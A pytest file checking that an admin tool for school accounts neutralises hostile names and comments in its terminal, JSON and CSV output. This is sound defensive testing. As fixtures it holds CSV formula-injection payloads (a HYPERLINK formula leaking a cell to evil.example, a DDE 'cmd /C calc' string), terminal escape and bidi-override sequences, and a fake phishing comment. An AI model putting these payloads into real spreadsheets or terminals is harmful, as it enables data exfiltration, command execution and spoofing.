"""Names are text, and what ent-admin prints is inert: in the terminal, in JSON, in a spreadsheet.

Tested as an attacker would: a roster line with a bidi override, a name that is a formula, a feedback
comment that clears the secretary's screen, an account stored before names were checked.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest

from functions.core import audit
from functions.core.audit import Client
from functions.core.lifecycle import AccountState
from secretariat.output import csv_text, json_text, printable, spreadsheet_cell

# What must never reach a terminal from the data: ESC sequences (clear screen, set the window title,
# OSC 8 links), the 8-bit CSI, bells, bidi overrides and isolates, line separators, zero-width ones.
ATTACKS = ["\x1b[2J", "\x1b]0;pwned\x07", "\x1b]8;;http://evil.example\x1b\\", "\x9b31m", "\r", "\n", "\x85"]
INVISIBLE = ["\u202e", "\u2066", "\u2069", "\u2028", "\u2029", "\u200b", "\u200d", "\ufeff", "\u00ad"]
NOT_INERT = ["\x1b", "\x07", "\x9b", "\r", "\x85", "\u202e", "\u2066", "\u2069", "\u2028", "\u2029", "\u200b", "\ufeff"]


def assert_inert(text: str) -> None:
    lines = text.split("\n")  # the output's own line breaks only
    for character in NOT_INERT:
        assert all(character not in line for line in lines), repr(character)


ISSUE = ["issue", "--profile", "parent", "--first-name", "Zoé", "--birth-date", "2015-03-01", "--school", "0751234J"]


# -- CSV: no cell is a formula ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez ici")',
    "-Martin+cmd|' /C calc'!A0",
    "+Martin",
    "@SUM(Martin)",
]


@pytest.mark.parametrize("last_name", FORMULAS)
def test_status_csv_neutralises_a_name_that_is_a_formula(admin, store, last_name):
    assert admin(*ISSUE, "--last-name", last_name).code == 0
    out = admin("status", "--school", "0751234J", "--csv").out
    [row] = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";"))
    assert row["nom"] == f"'{last_name}"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_status_csv_leaves_other_cells_as_they_are(admin):
    assert admin(*ISSUE, "--last-name", "Lefèvre-Martin").code == 0
    out = admin("status", "--school", "0751234J", "--csv").out
    [row] = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";"))
    assert row["nom"] == "Lefèvre-Martin" and row["identifiant"] == "zoe.lefevre-martin"
    assert row["date_limite_activation"] == "28/02/2027"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Martin", "Martin"),
        ("Lefèvre-Martin", "Lefèvre-Martin"),
        ("", ""),
        (" =1+1", " =1+1"),
    ],
)
def test_spreadsheet_cell_follows_owasp(cell, written):
    assert spreadsheet_cell(cell) == written


def test_csv_text_neutralises_every_cell_header_included_and_keeps_the_rows():
    text = csv_text([["=nom", "ok"], ["-1", "\t@x"], ["a;b", 'say "hi"']])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["'=nom", "ok"], ["'-1", "'\ufffd@x"], ["a;b", 'say "hi"']]
    assert_inert(text.removeprefix("\ufeff").replace("\r\n", "\n"))  # the file's own BOM and line ends


# -- The terminal: status, show, feedback-report ---------------------------------------------------


@pytest.fixture
def legacy(accounts, store):
    """An account stored before names were checked, with every trick in its names."""
    account, _ = accounts.make()
    tricks = "".join(ATTACKS + INVISIBLE)
    return store.save_account(
        replace(store.get_account(account.identifier), first_name=f"Zoé{tricks}", last_name=f"Mar\x1b[8mtin{tricks}")
    )


def test_status_prints_no_escape_sequence_or_line_separator_from_names(admin, legacy):
    for arguments in ([], ["--csv"], ["--json"]):
        result = admin("status", "--school", "0751234J", *arguments)
        assert result.code == 0 and legacy.identifier in result.out
        assert_inert(result.out.removeprefix("\ufeff").replace("\r\n", "\n"))
    text = admin("status", "--school", "0751234J").out
    assert len(text.splitlines()) == 4  # title, header, one account, total: no line broken by a name
    shown = json.loads(admin("status", "--school", "0751234J", "--json").out)
    assert shown[0]["last_name"] == legacy.last_name  # the JSON escapes and keeps them


def test_show_prints_no_escape_sequence_from_names_events_or_addresses(admin, legacy, store, clock):
    client = Client(source_ip="203.0.113.7", user_agent="Mozilla/5.0\x1b]0;pwned\x07\u2028")
    audit.record(store, legacy.identifier, "login_failed", clock(), client, detail="note\x1b[2J\u202eeton")
    audit.record(store, legacy.identifier, "odd\x1b[31maction\u2029", clock(), client)
    store.save_account(
        replace(store.get_account(legacy.identifier), state=AccountState.ACTIVE, email="f\x1b[2J@example.fr")
    )
    for arguments in ([], ["--json"]):
        result = admin("show", legacy.identifier, *arguments)
        assert result.code == 0
        assert_inert(result.out)
    text = admin("show", legacy.identifier).out
    assert "note\ufffd[2J\ufffdeton" in text and "odd\ufffd[31maction\ufffd" in text
    events = json.loads(admin("show", legacy.identifier, "--json").out)["events"]
    assert any(event["detail"] == "note\x1b[2J\u202eeton" for event in events)


def test_feedback_report_prints_a_public_comment_inert(admin, store, clock):
    comment = "Merci\x1b[2J\x1b[HVotre compte est bloqué, appelez le 08 99\u2028ligne\u2029\u202eesuaf\x9b31m\x85fin"
    store.add_feedback("/aide/delais/", False, comment, clock())
    store.add_feedback("/aide/\x1b[2Jdelais\u2028/", True, None, clock())
    result = admin("feedback-report")
    assert result.code == 0
    assert_inert(result.out)
    assert "Merci\ufffd[2J\ufffd[HVotre compte" in result.out and "08 99\ufffdligne\ufffd\ufffdesuaf" in result.out
    # The title, the page and its comment: a path the site does not have is not even read.
    assert len(result.out.splitlines()) == 3
    raw = admin("feedback-report", "--json").out
    assert_inert(raw)
    assert json.loads(raw)["/aide/delais/"]["comments"][0]["comment"] == comment


@pytest.mark.parametrize(
    "character", [*NOT_INERT, "\x00", "\x7f", "\n", "\t", "\u00ad", "\u200d", "\ud800", "\U000e0041"]
)
def test_printable_shows_each_unsafe_character_as_a_placeholder(character):
    assert printable(f"a{character}b") == "a\ufffdb"


def test_printable_keeps_french_text_whole():
    text = "Léa Lefèvre-Martin, « très clair » : 100 % — merci ! Œuvre, ÿ, ñ, 日本"
    assert printable(text) == text


def test_json_text_escapes_what_printable_hides_and_loses_nothing():
    value = {"c": "a\x1b[2Jb\u2028c\u202ed\x9be\ud800f\U000e0041g", "é": "très"}
    text = json_text(value)
    assert_inert(text)
    assert "\ud800" not in text and "\U000e0041" not in text
    assert "très" in text and "\\u2028" in text and "\\udb40\\udc41" in text
    assert json.loads(text) == value


def test_an_error_message_cannot_drive_the_terminal(admin, env):
    # The identifier typed comes back in « Aucun compte ne porte l'identifiant … ».
    result = admin("show", "zoe\x1b[2J.martin\u202e")
    assert result.code == 2 and "\x1b" not in result.err and "\u202e" not in result.err
